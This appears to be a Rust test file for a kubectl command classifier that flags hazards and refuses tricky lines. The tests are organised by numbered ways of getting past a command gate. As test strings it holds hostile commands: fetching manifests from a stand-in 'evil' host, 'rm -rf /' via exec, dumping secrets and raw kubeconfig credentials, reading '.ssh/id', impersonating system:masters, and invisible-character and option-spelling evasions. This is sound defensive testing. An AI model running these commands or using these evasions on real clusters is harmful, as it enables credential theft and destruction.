//! What kubectl command lines mean, one line per case.
//!
//! An operation is shown as `effect verb resource name @namespace`: no `@` is the ambient namespace, `@*` all,
//! `@-` none. Hazards follow as `!hazard`. Cases name the class of bypass they stand for (`B` and its number in the
//! list of ways past a command gate), or were observed on the wire.

use argv::kubectl::{Manifest, manifest_files, parse, parse_with};
use argv::{Invocation, Namespace, Surroundings};

/// Splits at spaces, except between single quotes.
fn words(line: &str) -> Vec<String> {
    let (mut words, mut word, mut quoted, mut begun) = (Vec::new(), String::new(), false, false);
    for c in line.chars() {
        match c {
            '\'' => {
                quoted = !quoted;
                begun = true;
            }
            ' ' if !quoted => {
                if begun || !word.is_empty() {
                    words.push(std::mem::take(&mut word));
                }
                begun = false;
            }
            _ => word.push(c),
        }
    }
    if begun || !word.is_empty() {
        words.push(word);
    }
    words
}

fn shown(invocation: &Invocation) -> Vec<String> {
    let mut lines = Vec::new();
    for operation in &invocation.operations {
        let mut line = format!("{} {}", operation.effect, operation.verb);
        let resource = operation.resource.as_ref().map(ToString::to_string);
        for part in [resource, operation.name.clone()].into_iter().flatten() {
            line.push(' ');
            line.push_str(&part);
        }
        match &operation.scope.namespace {
            Namespace::Ambient => {}
            Namespace::All => line.push_str(" @*"),
            Namespace::Cluster => line.push_str(" @-"),
            Namespace::Named(name) => line.push_str(&format!(" @{name}")),
        }
        if let Some(context) = &operation.scope.context {
            line.push_str(&format!(" in {context}"));
        }
        lines.push(line);
    }
    let mut hazards: Vec<String> = invocation
        .hazards
        .iter()
        .map(|fact| format!("!{}", fact.hazard))
        .collect();
    hazards.sort();
    hazards.dedup();
    lines.extend(hazards);
    lines
}

fn read(line: &str) -> Result<Vec<String>, String> {
    parse(&words(line), &Surroundings::default())
        .map(|read| shown(&read))
        .map_err(|fault| fault.word)
}

/// `is!("line" => "operation", …, "!hazard", …)`: exactly these.
macro_rules! is {
    ($line:expr => $($expected:expr),+ $(,)?) => {
        assert_eq!(read($line), Ok(vec![$($expected.to_owned()),+]), "kubectl {}", $line)
    };
}

/// `has!("line" => "!hazard")`: among others.
macro_rules! has {
    ($line:expr => $($expected:expr),+ $(,)?) => {
        let found = read($line).unwrap_or_else(|word| panic!("kubectl {}: unreadable: {word}", $line));
        $(assert!(found.contains(&$expected.to_owned()), "kubectl {}: no `{}` in {found:#?}", $line, $expected);)+
    };
}

/// `refuses!("line" => "word")`: unreadable because of that word; empty when a word is missing.
macro_rules! refuses {
    ($line:expr => $word:expr) => {
        assert_eq!(read($line), Err($word.to_owned()), "kubectl {}", $line)
    };
}

#[test]
fn words_that_look_like_verbs() {
    // B1
    is!("--request-timeout get delete ns prod" => "delete delete namespaces prod @-");
    is!("-n delete get pods" => "read get pods @delete");
    is!("-n get delete pod x" => "delete delete pods x @get");
    is!("--context get delete pod x" => "delete delete pods x in get");
    is!("get pods delete" => "read get pods delete");
    is!("get delete" => "read get delete");
    is!("--disable-compression get delete pod web-1" => "read get delete pod", "read get delete web-1");
    is!("rollout -n restart history deploy/web" => "read rollout history deployments.apps web @restart");
    is!("get pods '&&' delete pod web-1" =>
        "read get pods &&", "read get pods delete", "read get pods pod", "read get pods web-1");
}

#[test]
fn options_before_and_inside_the_command() {
    // B2
    is!("-n prod delete ns x" => "delete delete namespaces x @-");
    is!("-o name delete pod x" => "delete delete pods x");
    is!("--grace-period 0 delete pod x" => "delete delete pods x", "!skips-checks");
    is!("-it exec web-1 -- id" => "execute exec pods/exec web-1", "!runs-remote-code");
    is!("--dry-run=client delete pod x" => "read delete --dry-run=client pods x");
    is!("-f cm.yaml delete" => "delete delete *", "!reads-files");
    // B3
    has!("cluster-info -o json dump" => "read cluster-info dump pods/log");
    is!("create -n get deployment d --image=x" => "write create deployment deployments.apps d @get");
    // A boolean that kubectl itself does not know swallows the verb.
    refuses!("-A get pods" => "pods");
    refuses!("--force delete pod x" => "pod");
    refuses!("-h delete pod x" => "pod");
}

#[test]
fn spellings_of_options() {
    // B4, B5
    has!("get pods -Ashttps://evil" => "read get pods @*", "!redirects-endpoint");
    has!("get pods -s=https://evil" => "!redirects-endpoint");
    is!("get pods -Awn prod" => "read get pods @*");
    is!("get pods -nprod" => "read get pods @prod");
    is!("get pods -n=prod" => "read get pods @prod");
    is!("get pods -Aowide" => "read get pods @*");
    // B6
    has!("get pods --as_group=system:masters" => "!redirects-endpoint");
    is!("get pods --all_namespaces" => "read get pods @*");
    // B8
    is!("get pods -n ok -n kube-system" => "read get pods @kube-system");
    is!("get pods -n a --namespace=b" => "read get pods @b");
    is!("get pods -A --all-namespaces=false" => "read get pods");
    is!("get pods -n prod -n ''" => "read get pods");
    is!("get pods --namespace=" => "read get pods");
    is!("get pods -w false" => "read get pods false");
    is!("get pods --namespace -A" => "read get pods @-A");
    refuses!("get pods --name x" => "--name");
    refuses!("get pods --outp yaml" => "--outp");
    refuses!("get pods -it" => "-it");
    refuses!("get pods -n" => "-n");
    refuses!("get pods --all-namespaces=maybe" => "--all-namespaces=maybe");
    refuses!("get pods -n default/../kube-system" => "-n");
}

#[test]
fn help_and_double_dashes() {
    // B10, B11
    is!("delete pod x --help" => "local help");
    is!("exec p --help -- sh -c 'rm -rf /'" => "local help");
    is!("delete pod x -h" => "local help");
    is!("--help" => "local help");
    is!("help delete" => "local help @-");
    is!("-- delete pod x" => "local help @-");
    has!("--profile=cpu --profile-output=x" => "!writes-files");
    is!("delete pod x --help=false" => "delete delete pods x");
    is!("delete pod x --help --help=false" => "delete delete pods x");
    is!("delete pod x -- --help" => "delete delete pods x", "delete delete pods --help");
    is!("exec p -- sh -c 'x -n allowed' --help" => "execute exec pods/exec p", "!runs-remote-code");
    is!("get -- pods x" => "read get pods x");
    is!("delete pod x -- --dry-run=client" => "delete delete pods x", "delete delete pods --dry-run=client");
    refuses!("delete pod x --help --bogus" => "--bogus");
}

#[test]
fn dry_runs() {
    // B9
    is!("delete pod x --dry-run" => "read delete --dry-run=client pods x");
    is!("delete pod x --dry-run=server" => "read delete --dry-run=server pods x");
    is!("delete pod x --dry-run=true" => "read delete --dry-run=client pods x");
    is!("delete pod x --dry-run client" =>
        "read delete --dry-run=client pods x", "read delete --dry-run=client pods client");
    for real in ["none", "false", "0", "f", "FALSE"] {
        is!(&format!("delete pod x --dry-run={real}") => "delete delete pods x");
        is!(&format!("delete pod x --dry-run=client --dry-run={real}") => "delete delete pods x");
    }
    is!("apply -f x --dry-run=none" => "write apply *", "!reads-files");
    is!("apply -f --dry-run=client" => "write apply *", "!reads-files");
    refuses!("delete pod x --dry-run=" => "--dry-run=");
    refuses!("delete pod x --dry-run=maybe" => "--dry-run=maybe");
    refuses!("rollout restart deploy/web --dry-run=client" => "--dry-run=client");
    refuses!("create token default --dry-run=client" => "--dry-run=client");
    is!("create deployment d --image=x --dry-run=client" => "local create deployment --dry-run=client deployments.apps d");
    is!("run x --image=y --dry-run=client" => "local run --dry-run=client pods x");
    has!("replace --force -f x --dry-run=client" => "write replace *", "delete replace *");
    has!("label secret db a=b --dry-run=client -o yaml" => "!reveals-credentials");
    has!("patch secret db -p {} --dry-run=client -o json" => "!reveals-credentials");
    is!("delete --raw /api/v1/namespaces/d/pods/x --dry-run=client" => "delete delete pods x @d");
}

#[test]
fn reads_in_spite_of_their_verb() {
    is!("label pods web-1 a=b --list" => "read label --list pods web-1");
    is!("label pods web-1 --list=false a=b" => "write label pods web-1");
    is!("set env deploy/web A=b --list" => "read set env --list deployments.apps web");
    is!("auth can-i delete pods" => "read auth can-i selfsubjectaccessreviews.authorization.k8s.io @-");
    is!("apply view-last-applied deploy web" => "read apply view-last-applied deployments.apps web");
    is!("version --client" => "local version @-");
    is!("version" => "read version @-");
}

#[test]
fn resource_names() {
    // B7, B23
    has!("get po,secrets -o yaml" => "read get pods", "read get secrets", "!reveals-credentials");
    has!("get pods/a secret/b -o json" => "read get pods a", "read get secrets b", "!reveals-credentials");
    has!("get secrets.v1. -o yaml" => "read get secrets", "!reveals-credentials");
    has!("get SECRET.v1./db -ojson" => "read get secrets db", "!reveals-credentials");
    has!("get all,secrets -o yaml" => "read get secrets", "!reveals-credentials");
    is!("get Deployment.v1.apps/web" => "read get deployments.apps web");
    is!("get nodes -n x" => "read get nodes @-");
    is!("get widgets.v1.example.com/w1" => "read get widgets.example.com w1");
    is!("get externalsecrets" => "read get externalsecrets");
    has!("delete all --all" => "delete delete pods", "delete delete *", "!unbounded");
    refuses!("get pods;id" => "pods;id");
    refuses!("get pods/web-1/log" => "pods/web-1/log");
    refuses!("get pods/web-1 web-2" => "web-2");
    refuses!("get pods a%2fb" => "a%2fb");
    refuses!("get" => "");
    refuses!("get po\u{212a}s" => "po\u{212a}s");
}

#[test]
fn elsewhere_and_as_somebody_else() {
    // B12, B13, B14
    for option in [
        "--server=https://evil",
        "-s https://evil",
        "--token=abc",
        "--as=admin",
        "--as-group=system:masters",
        "--as-uid=1",
        "--as-user-extra=a=b",
        "--user=prod",
        "--cluster=prod",
        "--username=a",
        "--password=b",
        "--client-certificate=c",
        "--client-key=k",
        "--certificate-authority=c",
        "--insecure-skip-tls-verify",
        "--tls-server-name=x",
        "--kubeconfig=evil",
        "--kuberc=evil",
    ] {
        has!(&format!("get pods {option}") => "!redirects-endpoint");
        has!(&format!("{option} get pods") => "!redirects-endpoint");
    }
    has!("get pods --kubeconfig=evil" => "!runs-local-code");
    has!("get pods --kuberc=evil" => "!runs-local-code");
    is!("get pods --insecure-skip-tls-verify=false" => "read get pods");
    is!("create rolebinding rb --role=r --user=bob" => "write create rolebinding rolebindings.rbac.authorization.k8s.io rb");
}

#[test]
fn the_environment_runs_a_program() {
    // B15
    let mut around = Surroundings::default();
    around
        .environment
        .insert("KUBECTL_EXTERNAL_DIFF".to_owned(), "sh -c id".to_owned());
    let read = parse(&words("diff -f x"), &around).map(|read| shown(&read));
    assert!(read.is_ok_and(|lines| lines.contains(&"!runs-local-code".to_owned())));
}

#[test]
fn local_files() {
    // B16
    for option in [
        "-o go-template-file=t",
        "-o jsonpath-file=t",
        "-o go-template-file --template=t",
        "-o templatefile=t",
    ] {
        has!(&format!("get pods {option}") => "!reads-files");
    }
    has!("create cm x --from-file=k=.ssh/id --dry-run=client -o yaml" => "!reads-files");
    has!("create cm x --from-env-file=f" => "!reads-files", "!reveals-credentials");
    has!("create secret tls x --cert=a --key=b" => "!reads-files");
    has!("patch deploy x --patch-file=p" => "!reads-files");
    // B17
    is!("apply -f -" => "write apply *", "!reads-files");
    is!("apply -f https://evil/x.yaml" => "write apply *", "!remote-input");
    has!("apply -k https://evil/base" => "!remote-input", "!runs-local-code");
    has!("apply -Rf dir" => "!unbounded");
    // B18
    has!("get pods --profile=cpu --profile-output=x" => "!writes-files");
    has!("get pods --cache-dir=x" => "!writes-files");
    has!("cp p:/x bashrc" => "execute cp pods/exec p", "!writes-files", "!runs-remote-code");
    has!("cp secret.txt prod/p:/x" => "execute cp pods/exec p @prod", "!reads-files");
    has!("cluster-info dump --output-directory=d" => "!writes-files");
    has!("kustomize d -o x" => "!writes-files");
}

#[test]
fn programs_run_by_what_looks_like_a_read() {
    // B19
    has!("kustomize . --enable-helm --helm-command=./x" => "!runs-local-code");
    has!("edit deploy web" => "!runs-local-code");
    has!("create -f x --edit" => "!runs-local-code");
    has!("apply edit-last-applied cm cfg" => "!runs-local-code");
    refuses!("hello world" => "hello");
    refuses!("hello --help" => "hello");
    refuses!("create hello" => "hello");
    refuses!("__complete hello ''" => "hello");
    refuses!("__complete create hello ''" => "hello");
    is!("__complete get po ''" => "read __complete pods");
}

#[test]
fn credentials() {
    // B20
    for line in [
        "config view --flatten",
        "config view --raw",
        "config view --raw --minify",
        "config view",
        "get secrets -o yaml",
        "get secret db -ojsonpath={.data}",
        "get secret db --template={{.data}}",
        "get secrets -o custom-columns=A:.metadata.annotations",
        "get secret db -o name -v=8",
        "get pods -v9",
        "get pods -v 9",
        "--v 9 get pods",
        "get pods --vmodule=round_trippers=9",
        "describe pods,secrets",
        "describe secrets x",
        "annotate secret db --list",
        "apply view-last-applied secret/db",
        "diff -f secret.yaml",
        "wait secret/x --for=delete -o yaml",
        "set env deploy/web --list --resolve",
        "get -f x -o yaml",
        "create token default",
        "get --raw /api/v1/secrets",
        "get --raw /api/v1/namespaces/default/%73ecrets/db",
    ] {
        has!(line => "!reveals-credentials");
    }
    is!("get secrets" => "read get secrets");
    is!("get secrets -o name" => "read get secrets");
    is!("get secrets -o wide -A" => "read get secrets @*");
    is!("get pods -v=6" => "read get pods");
    is!("get pods -v=9 -v=0" => "read get pods");
    is!("config view --minify -o jsonpath={..namespace}" => "local config view @-");
    is!("config view -o 'jsonpath={.users[*].user.token}'" => "local config view @-");
    has!("config view -o 'jsonpath={.users[*].user.password}'" => "!reveals-credentials");
    refuses!("get pods -v=x" => "-v=x");
    refuses!("get pods -o badformat" => "-o");
}

#[test]
fn raw_paths_are_what_they_reach() {
    // B21
    is!("get --raw /api/v1/namespaces/d/pods/x/proxy/" => "connect proxy pods/proxy x @d", "!opens-tunnel");
    is!("get --raw '/api/v1/namespaces/d/pods/x/exec?command=id'" => "execute exec pods/exec x @d", "!runs-remote-code");
    has!("get --raw /api/v1/nodes/n/proxy/exec/d/x/c" => "connect proxy nodes/proxy n @-", "!runs-remote-code");
    is!("get --raw /api/v1/pods?limit=1" => "read get pods @*");
    is!("get --raw /api/v1/namespaces/d/pods/x/log" => "read logs pods/log x @d");
    is!("get --raw /metrics" => "read get /metrics @-");
    is!("get --raw=/version -n x" => "read get /version @-");
    is!("delete --raw=/api/v1/namespaces/d/pods" => "delete delete pods @d", "!unbounded");
    has!("create --raw /api/v1/namespaces/d/pods/x/eviction -f e" => "delete create pods/eviction x @d");
    has!("create --raw /api/v1/namespaces/d/serviceaccounts/x/token -f t" => "write create token serviceaccounts/token x @d");
    refuses!("get --raw /api/v1/namespaces/d/pods/../secrets/db" => "--raw");
    refuses!("get --raw https://h/api/v1/secrets" => "--raw");
    refuses!("get --raw /version pods" => "pods");
    // `--subresource` reaches the same places.
    is!("get deploy web --subresource=scale" => "read get deployments.apps/scale web");
    refuses!("get pods web-1 --subresource=exec" => "--subresource=exec");
    refuses!("get pods web-1 --subresource=proxy" => "--subresource=proxy");
}

#[test]
fn what_one_command_does_besides() {
    has!("apply -f x --prune -l a=b" => "write apply *", "delete apply * @*", "!unbounded");
    has!("run x --image=y --expose --port=80 --rm -it" =>
        "execute run pods x", "write run services x", "execute run pods/attach x", "delete run pods x");
    has!("drain n" => "write drain nodes n @-", "delete drain pods/eviction @*", "!unbounded");
    has!("debug x --image=b --copy-to=y --replace" => "execute debug pods y", "delete debug pods x");
    has!("exec deploy/web -- id" => "read exec deployments.apps web", "execute exec pods/exec");
    has!("expose deploy web --port=80 --name=s" => "write expose services s");
    is!("scale deploy web --replicas=3" => "write scale deployments.apps/scale web");
    is!("certificate approve c" => "write certificate approve certificatesigningrequests.certificates.k8s.io/approval c @-");
    has!("port-forward svc/web 80" => "connect port-forward pods/portforward", "!opens-tunnel");
    has!("proxy" => "connect proxy @-", "!opens-tunnel");
    has!("delete pods --all -A" => "delete delete pods @*", "!unbounded");
    has!("rollout restart deploy" => "write rollout restart deployments.apps", "!unbounded");
    has!("delete pod x --force --grace-period=0" => "!skips-checks");
    has!("create -f x --validate=false" => "!skips-checks");
    has!("config set-context --current --namespace=x" => "!changes-tool");
    has!("kuberc set --section aliases --name x --command delete" => "!changes-tool");
}

#[test]
fn characters_that_cannot_be_seen() {
    // B25
    refuses!("delete\u{200b} pod x" => "delete\u{fffd}");
    refuses!("delete pod x\u{202e}y" => "x\u{fffd}y");
    refuses!("delete pod x -n a\u{200b}b" => "-n");
    refuses!("'delete pod x'" => "delete pod x");
    refuses!("Delete pod x" => "Delete");
}

#[test]
fn manifests_that_were_read_take_the_place_of_the_unknown() {
    let secret = Manifest {
        api_version: "v1".to_owned(),
        kind: "Secret".to_owned(),
        namespace: Some("prod".to_owned()),
        name: Some("db".to_owned()),
        ..Manifest::default()
    };
    let read = |line: &str| {
        parse_with(
            &words(line),
            &Surroundings::default(),
            std::slice::from_ref(&secret),
        )
        .map(|read| shown(&read))
    };
    assert_eq!(read("apply -f x").unwrap(), ["write apply secrets db @prod"]);
    assert_eq!(
        read("get -f x -o yaml").unwrap(),
        ["read get secrets db @prod", "!reveals-credentials"]
    );
    assert_eq!(read("get -f x").unwrap(), ["read get secrets db @prod"]);
}

#[test]
fn a_refusal_says_what_to_type_instead() {
    let fault = parse(&words("get pods --namspace x"), &Surroundings::default()).unwrap_err();
    assert_eq!(fault.hint.as_deref(), Some("did you mean `--namespace`?"));
    let fault = parse(&words("del pod x"), &Surroundings::default()).unwrap_err();
    assert_eq!(
        fault.problem,
        "`del`: is not a kubectl command; plugins and aliases are not run"
    );
}

#[test]
fn which_manifests_a_line_names() {
    let files = manifest_files(&words("apply -Rf a,b -f - --filename=c")).unwrap();
    let places: Vec<_> = files
        .values
        .iter()
        .map(|it| (it.word, it.start, it.paths.join("+")))
        .collect();
    assert_eq!(
        places,
        [
            (2, 0, "a+b".to_owned()),
            (4, 0, "-".to_owned()),
            (5, 11, "c".to_owned())
        ]
    );
    assert!(files.recursive && files.complete);
    assert!(
        !manifest_files(&words("apply -f a -f https://h/x"))
            .unwrap()
            .complete
    );
    assert!(!manifest_files(&words("apply -k d")).unwrap().complete);
    assert!(manifest_files(&words("logs -f web")).unwrap().values.is_empty());
}
